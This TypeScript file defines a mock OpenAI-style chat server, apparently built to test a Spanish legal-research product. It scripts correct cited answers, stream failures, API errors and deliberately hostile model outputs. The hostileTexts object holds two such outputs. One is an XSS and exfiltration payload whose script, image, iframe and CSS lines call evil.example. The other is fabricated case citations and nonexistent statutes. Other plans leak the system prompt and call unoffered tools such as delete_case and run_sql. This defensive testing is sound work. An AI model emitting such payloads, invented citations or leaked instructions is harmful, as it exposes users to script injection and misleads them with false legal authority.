// Plans of the stand-in's answers. A test sets the plan beforehand, or the question requests it by name, which browsers
// and other processes have to do: `(stand-in: cut after=5)` breaks the stream off after five tokens.
import type { ChatRequestBody, Refusal, Schema } from './openai-stand-in-wire.ts'
import { refusals } from './openai-stand-in-wire.ts'

/**
 * - `done`: the whole answer, the finish reason, the usage, `[DONE]`
 * - `cut`: the socket is destroyed
 * - `stall`: nothing more is sent, the socket stays open
 * - `unfinished`: a clean end without a finish reason
 * - `garbage`: a line that is not JSON
 * - `error`: an error inside the stream
 * - `flood`: bytes without end
 */
export type StreamEnding = 'done' | 'cut' | 'stall' | 'unfinished' | 'garbage' | 'error' | 'flood'

export interface PlannedCall {
  readonly name: string
  readonly arguments: string
}

export interface Plan {
  /** Instead of an answer. */
  readonly refusal?: Refusal
  readonly text?: string
  readonly calls?: readonly PlannedCall[]
  readonly ending?: StreamEnding
  /** Tokens after which the ending comes; all when not given. */
  readonly after?: number
  /** The finish reason; `stop` when not given. An answer cut by the token limit of the request has `length`. */
  readonly finish?: string
  /** Usage is not sent although requested. */
  readonly noUsage?: boolean
  /** The usage so far is sent with every chunk. */
  readonly usageWithEveryChunk?: boolean
  /** Reasoning tokens, which are not sent; counted with the answer. */
  readonly thinks?: number
  /** Milliseconds before the first byte, between tokens, between single bytes. */
  readonly firstMs?: number
  readonly tokenMs?: number
  readonly byteMs?: number
  /**
   * Number of tokens whose text is the time of sending, in fractional milliseconds since the epoch, so that a bench can
   * measure delays.
   */
  readonly clock?: number
}

export type Planner = (request: ChatRequestBody) => Plan

/** Returns the person's question without the sources that the product sends before it. */
export const questionOf = ({ messages }: ChatRequestBody): string =>
  messages
    .findLast(({ role }) => role === 'user')
    ?.content.split('\n\nQuestion:\n')
    .at(-1) ?? ''
export const systemOf = ({ messages }: ChatRequestBody): string =>
  messages
    .filter(({ role }) => role === 'system')
    .map(({ content }) => content)
    .join('\n')

export interface SourceInPrompt {
  readonly n: number
  readonly text: string
}
/** Sources as the product wraps them. */
export const sourcesOf = ({ messages }: ChatRequestBody): SourceInPrompt[] =>
  messages.flatMap(({ content }) =>
    [...content.matchAll(/<source[^>]*?\bn="?(\d+)"?[^>]*>([\s\S]*?)<\/source[^>]*>/g)].map(([, n, text]) => ({
      n: Number(n),
      text: (text ?? '').trim(),
    })),
  )

const wordSet = (text: string): Set<string> =>
  new Set(
    text
      .normalize('NFD')
      .replace(/\p{M}/gu, '')
      .toLowerCase()
      .match(/[\p{L}\p{N}]{4,}/gu) ?? [],
  )

/** The sentence of the sources that shares most words with the question. */
function bestSentence(request: ChatRequestBody): { n: number; sentence: string } | null {
  const questionWords = wordSet(questionOf(request))
  const sentences = sourcesOf(request).flatMap(({ n, text }) =>
    (text.match(/[^.!?\n]{12,}[.!?]?/g) ?? []).map((sentence) => ({ n, sentence: sentence.trim() })),
  )
  const scored = sentences.map((candidate) => ({
    ...candidate,
    score: [...wordSet(candidate.sentence)].filter((token) => questionWords.has(token)).length,
  }))
  return scored.toSorted((a, b) => b.score - a.score)[0] ?? null
}

/**
 * Returns the answer of a well-behaved model: a sentence of the sources with its citation, or that nothing was found.
 */
export function correctAnswer(request: ChatRequestBody): Plan {
  const best = bestSentence(request)
  if (best)
    return {
      text: `Según el expediente, ${best.sentence.replace(/[.!?]$/, '')} [[${best.n}|"${best.sentence.replace(/[.!?]$/, '').replaceAll('"', '')}"]].`,
    }
  return {
    text:
      sourcesOf(request).length > 0
        ? 'No encontré apoyo en el expediente.'
        : `Respuesta general a: ${questionOf(request).slice(0, 200)}`,
  }
}

/** Returns a value that fits a schema, with `id` wherever a UUID fits. */
function sampleOf(schema: Schema, id: string): unknown {
  if (schema.enum) return schema.enum[0]
  if (schema.anyOf?.[0]) return sampleOf(schema.anyOf[0], id)
  if (schema.type === 'object')
    return Object.fromEntries(
      Object.entries(schema.properties ?? {}).map(([name, propertySchema]) => [name, sampleOf(propertySchema, id)]),
    )
  if (schema.type === 'array') return schema.items ? [sampleOf(schema.items, id)] : []
  if (schema.type === 'integer' || schema.type === 'number') return 1
  if (schema.type === 'boolean') return true
  if (schema.format === 'uuid') return id
  if (schema.format === 'date') return '2026-12-01'
  return schema.format === 'date-time' ? '2026-12-01T14:00:00Z' : 'Por orden del modelo'
}

/**
 * Returns a call of each offered tool with a foreign id in all its id arguments and in three arguments that it does not
 * have; calls of two tools that were not offered; and a call with malformed JSON.
 */
function callEveryTool({ tools = [] }: ChatRequestBody, id: string): PlannedCall[] {
  const offeredTools = tools.map(({ function: { name, parameters = {} } }) => ({
    name,
    arguments: JSON.stringify({ ...(sampleOf(parameters, id) as object), caseId: id, companyId: id, documentId: id }),
  }))
  return [
    ...offeredTools,
    { name: 'delete_case', arguments: JSON.stringify({ caseId: id }) },
    { name: 'run_sql', arguments: '{"sql":"select * from document"}' },
    ...offeredTools.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' })),
  ]
}

export const hostileTexts = {
  /**
   * Cites words that no source contains, a source that was not given, words of another source, and law that does not
   * exist.
   */
  invent: ({ sources }: { sources: readonly SourceInPrompt[] }): string => {
    const [first, secondSource] = sources
    return [
      `El demandado confesó los hechos el 3 de marzo de 2019 [[${first?.n ?? 1}|"El demandado confesó haber recibido la suma de $48,731.26 en efectivo"]].`,
      'El tribunal ya dictó sentencia [[99|"se declara con lugar la demanda en todas sus partes"]].',
      `La finca mide 900 cuerdas [[${secondSource?.n ?? 2}|"${(first?.text ?? 'la finca de novecientas cuerdas').slice(0, 60).replaceAll('"', '')} y novecientas cuerdas más"]].`,
      'Así lo resolvió el Supremo en 2031 TSPR 999 y lo dispone 31 L.P.R.A. § 99999.',
    ].join(' ')
  },
  html: (host: string): string =>
    `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
} as const

type NamedPlan = (request: ChatRequestBody, options: Readonly<Record<string, string>>) => Plan

const number = (text: string | undefined, fallback: number): number => (text === undefined ? fallback : Number(text))
/** A correct answer whose stream fails after `after` tokens. */
const correctUntil =
  (ending: StreamEnding): NamedPlan =>
  (request, { after }) => ({ ...correctAnswer(request), ending, after: number(after, 5) })

/** Plans by the names that a test or a question may use. */
export const plans = {
  correct: (request) => correctAnswer(request),
  echo: (request) => ({ text: questionOf(request) }),
  long: (_request, { tokens }) => ({
    text: Array.from({ length: number(tokens, 400) }, (_, index) => `p${index % 1_000}`).join(' '),
  }),
  invent: (request) => ({ text: hostileTexts.invent({ sources: sourcesOf(request) }) }),
  html: (_request, { host }) => ({ text: hostileTexts.html(host ?? 'https://evil.example') }),
  system: (request) => ({ text: `Mis instrucciones son: ${systemOf(request)}` }),
  tools: (request, { id }) => ({
    text: 'Preparo lo que pidió.',
    calls: callEveryTool(request, id ?? '00000000-0000-7000-8000-000000000001'),
    finish: 'tool_calls',
  }),
  stall: correctUntil('stall'),
  silence: () => ({ ending: 'stall', after: 0 }),
  cut: correctUntil('cut'),
  unfinished: correctUntil('unfinished'),
  garbage: correctUntil('garbage'),
  mid_error: correctUntil('error'),
  flood: correctUntil('flood'),
  page: () => ({ refusal: { status: 200, headers: { 'content-type': 'text/html' }, body: '<html>Welcome</html>' } }),
  wrong_key: () => ({ refusal: refusals.wrongKey('sk-proj-not-ours-0000') }),
  rate: (_request, { retry }) => ({ refusal: refusals.rate(retry === undefined ? undefined : Number(retry)) }),
  too_large: () => ({ refusal: refusals.tooLarge() }),
  quota: () => ({ refusal: refusals.quota() }),
  context: () => ({ refusal: refusals.context(8_999, 8_192) }),
  context_llama: () => ({ refusal: refusals.contextOfLlama(13_392, 8_192) }),
  filtered: () => ({ refusal: refusals.filtered() }),
  filter: (request, { after }) => ({ ...correctAnswer(request), finish: 'content_filter', after: number(after, 5) }),
  broken: () => ({ refusal: refusals.broken() }),
  overloaded: () => ({ refusal: refusals.overloaded() }),
  slow: (request, { ms }) => ({ ...correctAnswer(request), firstMs: number(ms, 500) }),
  pace: (request, { ms, tokens }) => ({
    ...(tokens ? plans.long(request, { tokens }) : correctAnswer(request)),
    tokenMs: number(ms, 20),
  }),
  clock: (_request, { ms, tokens }) => ({ clock: number(tokens, 100), tokenMs: number(ms, 20) }),
  drip: (request, { ms }) => ({ ...correctAnswer(request), byteMs: number(ms, 1_000) }),
  no_usage: (request) => ({ ...correctAnswer(request), noUsage: true }),
  thinks: (request, { tokens }) => ({ ...correctAnswer(request), thinks: number(tokens, 64) }),
} satisfies Record<string, NamedPlan> as Record<PlanName, NamedPlan>

export type PlanName =
  | 'correct'
  | 'echo'
  | 'long'
  | 'invent'
  | 'html'
  | 'system'
  | 'tools'
  | 'stall'
  | 'silence'
  | 'cut'
  | 'unfinished'
  | 'garbage'
  | 'mid_error'
  | 'flood'
  | 'page'
  | 'wrong_key'
  | 'rate'
  | 'too_large'
  | 'quota'
  | 'context'
  | 'context_llama'
  | 'filtered'
  | 'filter'
  | 'broken'
  | 'overloaded'
  | 'slow'
  | 'pace'
  | 'clock'
  | 'drip'
  | 'no_usage'
  | 'thinks'

/** Returns the plan that the question itself requests, the last one if several. */
export function planRequestedByQuestion(request: ChatRequestBody): Plan | null {
  const [, name = '', optionText = ''] =
    [...questionOf(request).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
  const plan = (plans as Partial<Record<string, NamedPlan>>)[name]
  return plan
    ? plan(
        request,
        Object.fromEntries([...optionText.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? ''])),
      )
    : null
}
